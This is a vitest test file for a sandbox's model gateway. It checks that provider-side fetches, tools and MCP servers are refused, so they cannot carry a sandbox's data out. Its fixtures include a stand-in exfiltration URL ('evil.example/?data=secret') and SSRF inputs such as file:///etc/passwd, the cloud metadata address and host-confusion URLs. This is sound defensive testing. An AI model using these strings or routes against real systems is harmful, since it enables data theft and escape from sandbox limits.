import { say } from "@sandbox0/testkit";
import { afterEach, expect, test } from "vitest";
import type { Networking } from "../port.ts";
import { createGatewayStage, type GatewayStage } from "./model-gateway.fixture.ts";

let stage: GatewayStage;
afterEach(() => stage.close());

const LIMITED: Networking = { type: "limited", allowedHosts: ["files.example.com", "*.cdn.example.com"] };
const UNRESTRICTED: Networking = { type: "unrestricted", blockedHosts: ["blocked.example.com"] };

/** The status and message of a request under this networking; 200: the provider was asked. */
async function outcome(networking: Networking, api: keyof typeof PATHS, extra: object): Promise<string> {
  stage = await createGatewayStage({ networking, provider: { script: () => say("ok") } });
  const answer = await stage.post(PATHS[api], { model: MODELS[api], ...extra });
  const body = (await answer.json()) as { error?: { message?: string } };
  expect(stage.provider.received).toBe(answer.status === 200 ? 1 : 0);
  return `${answer.status} ${body.error?.message ?? ""}`;
}

const PATHS = { anthropic: "/model/v1/messages", responses: "/model/v1/responses", completions: "/model/v1/chat/completions" };
const MODELS = { anthropic: "claude-test", responses: "gpt-test", completions: "open-test" };

const anthropicContent = (...content: object[]) => ({ messages: [{ role: "user", content }] });
const urlImage = (url: string) => anthropicContent({ type: "image", source: { type: "url", url } });
const urlInput = (url: string) => ({ input: [{ role: "user", content: [{ type: "input_image", image_url: url }] }] });
const urlPart = (url: string) => ({ messages: [{ role: "user", content: [{ type: "image_url", image_url: { url } }] }] });
const anthropicTools = (...tools: object[]) => ({ tools, messages: [{ role: "user", content: "hi" }] });
const responsesTools = (...tools: object[]) => ({ tools, input: "hi" });
const EVIL = "https://evil.example/?data=secret";

/** Each would carry data of a sandbox with `limited` networking out through the provider. */
const WAYS_OUT: [string, keyof typeof PATHS, object][] = [
  ["an image by URL", "anthropic", urlImage(EVIL)],
  ["a document by URL", "anthropic", anthropicContent({ type: "document", source: { type: "url", url: EVIL } })],
  [
    "an image in the content of a document",
    "anthropic",
    anthropicContent({
      type: "document",
      source: { type: "content", content: [{ type: "image", source: { type: "url", url: EVIL } }] },
    }),
  ],
  [
    "an image in a tool result",
    "anthropic",
    anthropicContent({ type: "tool_result", tool_use_id: "t", content: [{ type: "image", source: { type: "url", url: EVIL } }] }),
  ],
  ["web fetch at the provider", "anthropic", anthropicTools({ type: "web_fetch_20260318", name: "web_fetch" })],
  ["web search at the provider", "anthropic", anthropicTools({ type: "web_search_20250305", name: "web_search" })],
  ["code at the provider", "anthropic", anthropicTools({ type: "code_execution_20260521", name: "code_execution" })],
  ["an MCP server", "anthropic", { ...anthropicTools(), mcp_servers: [{ type: "url", name: "m", url: EVIL }] }],
  ["a tool of tomorrow", "anthropic", anthropicTools({ type: "teleport_20270101", name: "teleport" })],
  ["a tool added in the middle", "anthropic", anthropicContent({ type: "tool_addition", tool: { type: "web_fetch_20260318" } })],
  ["an image by URL", "responses", urlInput(EVIL)],
  ["a file by URL", "responses", { input: [{ role: "user", content: [{ type: "input_file", file_url: EVIL }] }] }],
  [
    "an image in the output of a call",
    "responses",
    { input: [{ type: "function_call_output", call_id: "c", output: [{ type: "input_image", image_url: EVIL }] }] },
  ],
  [
    "a screenshot by URL",
    "responses",
    { input: [{ type: "computer_call_output", output: { type: "computer_screenshot", image_url: EVIL } }] },
  ],
  ["web search at the provider", "responses", responsesTools({ type: "web_search" })],
  ["an MCP server", "responses", responsesTools({ type: "mcp", server_label: "m", server_url: EVIL })],
  ["a shell at the provider", "responses", responsesTools({ type: "shell", environment: { type: "container_auto" } })],
  ["a tool in a namespace", "responses", responsesTools({ type: "namespace", tools: [{ type: "mcp", server_url: EVIL }] })],
  ["tools among the input", "responses", { input: [{ type: "tool_search_output", tools: [{ type: "mcp", server_url: EVIL }] }] }],
  ["an image by URL", "completions", urlPart(EVIL)],
  [
    "a URL for the data of a file",
    "completions",
    { messages: [{ role: "user", content: [{ type: "file", file: { file_data: EVIL } }] }] },
  ],
  ["web search at the provider", "completions", { messages: [{ role: "user", content: "hi" }], web_search_options: {} }],
];

test.each(WAYS_OUT)("limited: %s (%s) is no way out", async (_, api, extra) => {
  expect(await outcome(LIMITED, api, extra)).toMatch(/^403 (The tool|The request has)/);
});

test.each([
  ["a word that is no URL", "evil"],
  ["a file of the provider's", "file:///etc/passwd"],
  ["an address", "http://169.254.169.254/latest/meta-data"],
  ["an address in decimal", "http://2852039166/"],
  ["an address in IPv6", "http://[::1]/"],
  ["a name within a network", "http://localhost:5432/"],
  ["a user before the host", "https://files.example.com@evil.example/"],
  ["a backslash", "https://files.example.com\\@evil.example/"],
  ["the apex of a wildcard", "https://cdn.example.com/"],
  ["a longer name", "https://files.example.com.evil.example/"],
  ["another end", "https://evilfiles.example.com/"],
])("limited: %s is not fetched", async (_, url) => {
  expect(await outcome(LIMITED, "anthropic", urlImage(url))).toMatch(/^403/);
});

test.each([
  ["file:///etc/passwd"],
  ["http://169.254.169.254/"],
  ["http://0x7f.1/"],
  ["https://BLOCKED.example.com./"],
  ["gopher://example.com/"],
])("unrestricted: %s is not fetched either", async (url) => {
  expect(await outcome(UNRESTRICTED, "responses", urlInput(url))).toMatch(/^403/);
});

test.each<[string, keyof typeof PATHS, object]>([
  ["an allowed host", "anthropic", urlImage("https://files.example.com/a.png")],
  ["a subdomain of an allowed wildcard, in capitals", "anthropic", urlImage("HTTPS://A.CDN.example.com:8443/a.png")],
  ["data", "responses", urlInput("data:image/png;base64,AAAA")],
  ["data", "completions", urlPart("DATA:image/png;base64,AAAA")],
  [
    "a URL that is only the input of a tool",
    "anthropic",
    {
      messages: [
        { role: "user", content: "hi" },
        { role: "assistant", content: [{ type: "tool_use", id: "t", name: "get", input: { type: "url", url: EVIL } }] },
        { role: "user", content: [{ type: "tool_result", tool_use_id: "t", content: EVIL }] },
      ],
    },
  ],
  [
    "tools that run in the sandbox",
    "anthropic",
    anthropicTools(
      { name: "a", input_schema: {} },
      { type: "custom", name: "b", input_schema: {} },
      { type: "bash_20250124", name: "bash" },
      { type: "text_editor_20250728", name: "e" },
    ),
  ],
  [
    "a schema that speaks of URLs",
    "anthropic",
    anthropicTools({ name: "a", input_schema: { properties: { url: { type: "string" }, image_url: { default: EVIL } } } }),
  ],
  [
    "tools that run in the sandbox",
    "responses",
    responsesTools(
      { type: "function", name: "a" },
      { type: "custom", name: "b" },
      { type: "local_shell" },
      { type: "shell", environment: { type: "local" } },
      { type: "web_search", external_web_access: false },
    ),
  ],
  [
    "functions",
    "completions",
    { messages: [{ role: "user", content: "hi" }], tools: [{ type: "function", function: { name: "a" } }] },
  ],
])("limited: %s (%s) passes", async (_, api, extra) => {
  expect(await outcome(LIMITED, api, extra)).toBe("200 ");
});

test("unrestricted: the provider may search the web and fetch public URLs", async () => {
  const body = {
    ...urlImage("https://pictures.example/a.png"),
    ...{ tools: [{ type: "web_search_20250305", name: "web_search" }] },
  };
  expect(await outcome(UNRESTRICTED, "anthropic", body)).toBe("200 ");
});
